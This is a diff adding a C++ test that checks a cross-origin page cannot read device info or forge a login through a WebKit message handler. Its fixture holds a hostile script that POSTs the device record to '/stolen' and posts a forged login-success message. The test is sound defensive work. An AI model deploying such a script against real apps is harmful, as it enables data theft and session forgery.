@@ -113,6 +113,27 @@ TEST_F(WebKitLoginTest, AfterALogoutTheCookiesThePageSetAreGone) {
     ASSERT_TRUE(pumpUntil([&] { return events() == 4; }));  // the logout's event, then the new login
 }
 
+TEST_F(WebKitLoginTest, APageOfAnotherOriginGetsNoRecordAndCannotLogIn) {
+    // The accounts page sends the player elsewhere; that page, and a frame of its own origin in it,
+    // ask for the record and post a token.
+    LoopbackServer other(LoopbackServer::Connections::OnePerRequest);
+    const std::string grab = R"(<script>
+window.onReceiveDeviceInfo = function (info) { fetch('/stolen', {method: 'POST', body: JSON.stringify(info)}); };
+window.webkit.messageHandlers.OvixLoginSuccess.postMessage({data: 'forged'});
+</script>)";
+    other.page("/frame", grab);
+    other.page("/page", grab + R"html(<iframe src="/frame" onload="fetch('/loaded')"></iframe>)html");
+    other.on("/loaded", LoopbackServer::Reply{200, "{}"});
+    accounts.page(authPath, "<script>location.href = '" + other.url("/page") + "';</script>");
+
+    OvixCore::shared().showLogin();
+    ASSERT_TRUE(pumpUntil([&] { return other.countFor("/loaded") == 1; }));
+    pumpUntil([] { return false; }, 1.0);  // time for anything still on its way
+    EXPECT_EQ(events(), 0u);
+    EXPECT_EQ(SessionManager::readString(SessionManager::shared().tokenKey), "");
+    EXPECT_EQ(other.countFor("/stolen"), 0u);
+}
+
 class Channel : public kit::host::ScriptMessageHandler {
   public:
     void userContentControllerDidReceiveScriptMessage(kit::host::UserContentController&,
